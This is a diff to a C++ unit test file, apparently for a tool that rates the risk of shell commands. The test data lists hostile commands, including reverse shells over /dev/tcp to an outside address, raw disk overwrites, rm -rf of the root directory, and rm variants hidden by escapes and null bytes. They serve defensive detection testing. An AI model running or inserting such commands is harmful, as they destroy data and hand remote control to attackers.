@@ -138,8 +138,7 @@ TEST(ShellAnalysisTest, CriticalIsAlwaysRejected) {
       R"(\dd if=x of=y)",
       "echo hi >/dev/sda1",
       "bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
-      "exec 5<>/dev/tcp/1.2.3.4/4; cat <&5 | while read line; do $line 2>&5 "
-      ">&5; done",
+      "exec 5<>/dev/tcp/1.2.3.4/4; cat <&5 | while read line; do $line 2>&5 >&5; done",
       "ls | xargs -I{} rm -rf /etc/{}",
       "rm -rf --no-preserve-root -- /",
       R"($'\u0072\155' -rf /)",
@@ -455,7 +454,7 @@ TEST(ShellAnalysisTest, CodeThatIsTooLargeIsSearchedForCommands) {
 }
 
 TEST(ShellAnalysisTest, BytesThatTheShellIgnoresHideNothing) {
-  constexpr std::string_view kCode("r\0m -r\0f /", 11);
+  constexpr std::string_view kCode("r\0m -r\0f /", 10);
   EXPECT_EQ(LevelOf(FindingsOf(kCode)), RiskLevel::kCritical);
 }
 
